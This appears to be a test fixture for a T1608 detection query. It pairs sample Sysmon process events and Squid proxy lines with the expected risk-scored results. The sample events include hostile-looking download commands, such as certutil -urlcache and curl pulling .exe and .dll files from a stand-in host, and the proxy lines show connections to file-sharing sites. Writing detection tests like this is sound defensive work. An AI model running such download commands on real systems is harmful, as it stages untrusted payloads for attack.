# the T1608 query, as written, over endpoint and proxy
--- from t1608.query
--- input endpoint/windows=sysmon.json
{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://a.example/x.exe C:\\x.exe"}
{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Image":"C:\\Windows\\System32\\curl.exe","CommandLine":"curl -O http://a.example/x.dll"}
{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Image":"C:\\Windows\\System32\\curl.exe","CommandLine":"curl -O http://a.example/x.dll --retry 3"}
{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Image":"C:\\Windows\\System32\\notepad.exe","CommandLine":"notepad x.exe"}
--- input proxy/access=squid.log
1795486913.747     13 10.0.0.2 TCP_TUNNEL/200 3373 CONNECT transfer.sh:443 - HIER_DIRECT/203.0.113.1 -
1795486913.748     13 10.0.0.2 TCP_TUNNEL/200 3373 CONNECT transfer.sh:443 - HIER_DIRECT/203.0.113.1 -
1795486913.863      4 10.0.0.4 TCP_MISS/200 1264 GET http://paste.ee/r/a - HIER_DIRECT/203.0.113.7 text/plain
1795486913.864      4 10.0.0.4 TCP_MISS/200 1264 GET http://intranet.example/r/a - HIER_DIRECT/203.0.113.7 text/plain
--- input other=other.log
1795486913.747     13 10.0.0.9 TCP_TUNNEL/200 3373 CONNECT gofile.io:443 - HIER_DIRECT/203.0.113.1 -
--- output ndjson
{"src_ip":"10.0.0.2","process_name":null,"RiskLevel":"High","_count":2}
{"src_ip":"10.0.0.4","process_name":null,"RiskLevel":"Medium","_count":1}
{"src_ip":null,"process_name":"certutil.exe","RiskLevel":"High","_count":1}
{"src_ip":null,"process_name":"curl.exe","RiskLevel":"Medium","_count":1}
